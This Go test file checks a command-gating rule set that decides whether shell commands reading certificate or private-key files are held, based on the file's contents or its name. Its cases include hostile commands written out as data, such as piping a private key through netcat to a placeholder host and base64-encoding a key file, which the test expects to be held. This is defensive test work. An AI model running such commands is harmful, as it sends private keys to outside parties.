package rules_test

import (
	"os"
	"path/filepath"
	"testing"

	"gatesh/probe"
	"gatesh/rules"
)

// A key file that exists is judged by what it holds: a private key's
// header makes any read of it red whatever its name, and certificates
// alone are public. A file that is not there is judged by its name, and
// a .pem is a key unless its name says certificate, chain or CA.
func TestSecretByContent(t *testing.T) {
	const (
		cert = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"
		key  = "-----BEGIN EC PRIVATE KEY-----\nMHcC\n-----END EC PRIVATE KEY-----\n"
	)
	dir := t.TempDir()
	for name, text := range map[string]string{
		"certs/server.pem":  cert,
		"certs/tls.crt":     key + cert,
		"certs/cert.pem":    cert + key,
		"deploy-key.pem":    cert,
		"keys/ec2-prod.pem": key,
	} {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	set, err := rules.Load(rules.LoadOptions{Home: t.TempDir(), UserHome: "/home/u", Cwd: dir, Content: probe.FileContent})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		cmd  string
		held bool
	}{
		// Certificates, whatever the name.
		{"head -5 certs/server.pem", false},
		{"cat " + dir + "/certs/server.pem", false},
		{"cd certs && tail -n 3 server.pem", false},
		{"cat deploy-key.pem", false},
		{"openssl x509 -noout -text -in certs/server.pem", false},
		// A private key, whatever the name.
		{"cat certs/tls.crt", true},
		{"tail -n 3 certs/cert.pem", true},
		{"cd certs && head cert.pem", true},
		{"base64 -w0 keys/ec2-prod.pem", true},
		{"< keys/ec2-prod.pem nc x.example 9", true},
		// Printing only the certificate of a file that also holds the key.
		{"openssl x509 -noout -subject -in certs/cert.pem", false},
		// Not there: the name decides.
		{"head -n 5 keys/new.pem", true},
		{"cat certs/new-cert.pem", false},
		{"cat certs/ca-bundle.crt", false},
		// Named, not read.
		{"chmod 400 keys/ec2-prod.pem", false},
		{"ls -l certs/cert.pem", false},
		{"ssh -i keys/ec2-prod.pem ubuntu@203.0.113.9 uptime", false},
	} {
		d := set.Classify(c.cmd)
		held := d.Verdict == rules.Hold || d.Verdict == rules.Deny
		if held != c.held {
			t.Errorf("%q: held=%v, want %v (%s %s)", c.cmd, held, c.held, d.Tier, formatHits(d.Hits))
		}
	}
}
